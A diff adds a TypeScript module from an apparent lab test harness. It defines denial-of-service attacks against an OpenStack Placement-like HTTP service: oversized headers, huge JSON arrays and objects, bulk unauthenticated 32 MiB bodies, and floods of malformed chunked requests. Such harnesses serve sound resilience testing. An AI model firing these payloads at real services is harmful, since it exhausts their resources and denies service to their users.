@@ -1,0 +1,94 @@
+import type { Attacker } from "./attacker.ts";
+import type { OptionGroups } from "./victim.ts";
+
+/** One thing that a client can do to all others. */
+export interface Attack {
+  readonly name: string;
+  /** What the service is configured with besides its defaults. */
+  readonly options?: OptionGroups;
+  /** How long to wait after the attack before the connections that are still open are counted. */
+  readonly lingerMs?: number;
+  /** Resolves with what the attacker was told. */
+  readonly run: (attacker: Attacker) => Promise<string>;
+}
+
+const MIB = 1024 * 1024;
+
+/** Tokens that may not, without a role: the policy is to be asked ahead of the body. */
+const STRANGER = "X-Auth-Token: stranger:lab\r\n";
+
+const HEAD_AND_BROKEN_BODY =
+  "PUT /traits/CUSTOM_A HTTP/1.1\r\nHost: x\r\nTransfer-Encoding: chunked\r\n\r\n+0\r\n\r\n";
+
+export const ATTACKS: readonly Attack[] = [
+  {
+    name: "refused message, field of 60,000 blanks",
+    run: (attacker) =>
+      attacker.send(
+        `GET / HTTP/1.1\r\nX: a${" ".repeat(60_000)}b\r\nContent-Length: hi mom\r\n\r\n`,
+      ),
+  },
+  {
+    name: "X-Forwarded-Prefix of 60,000 slashes",
+    options: { oslo_middleware: { enable_proxy_headers_parsing: true } },
+    run: (attacker) =>
+      attacker.send(
+        attacker.request("GET", "/", "", {
+          headers: `X-Forwarded-Prefix: ${"/".repeat(60_000)}x\r\n`,
+        }),
+      ),
+  },
+  {
+    name: "POST /resource_providers, 10 MiB of `1,`",
+    run: (attacker) =>
+      attacker.send(
+        attacker.request("POST", "/resource_providers", `[${"1,".repeat(5 * MIB - 1)}1]`),
+      ),
+  },
+  {
+    name: "POST /allocations, 30 MiB of `1,`",
+    run: (attacker) =>
+      attacker.send(attacker.request("POST", "/allocations", `[${"1,".repeat(15 * MIB - 1)}1]`)),
+  },
+  {
+    name: "POST /resource_providers, 600,000 keys",
+    run: (attacker) =>
+      attacker.send(attacker.request("POST", "/resource_providers", objectOf(600_000, key, "1"))),
+  },
+  {
+    name: "POST /allocations, 100,000 consumers of {}",
+    run: (attacker) =>
+      attacker.send(attacker.request("POST", "/allocations", objectOf(100_000, uuid, "{}"))),
+  },
+  {
+    name: "POST /reshaper without a role, 30 x 32 MiB less a byte",
+    lingerMs: 20_000,
+    run: (attacker) => {
+      const announced = 32 * MIB;
+      const headers = STRANGER;
+      const body = " ".repeat(announced - 1);
+      const message = attacker
+        .request("POST", "/reshaper", body, { announced, headers })
+        .replace("X-Auth-Token: admin\r\n", "");
+      return attacker.sendMany(30, message, 15_000);
+    },
+  },
+  {
+    name: "395 heads with a broken body, no token",
+    lingerMs: 76_000,
+    run: (attacker) => attacker.sendMany(395, HEAD_AND_BROKEN_BODY, 5000),
+  },
+];
+
+function objectOf(count: number, keyOf: (at: number) => string, value: string): string {
+  const members = Array.from({ length: count }, (_, at) => `"${keyOf(at)}":${value}`);
+  return `{${members.join(",")}}`;
+}
+
+function key(at: number): string {
+  return `key${at}`;
+}
+
+function uuid(at: number): string {
+  return `c0000000-0000-4000-8000-${String(at).padStart(12, "0")}`;
+}
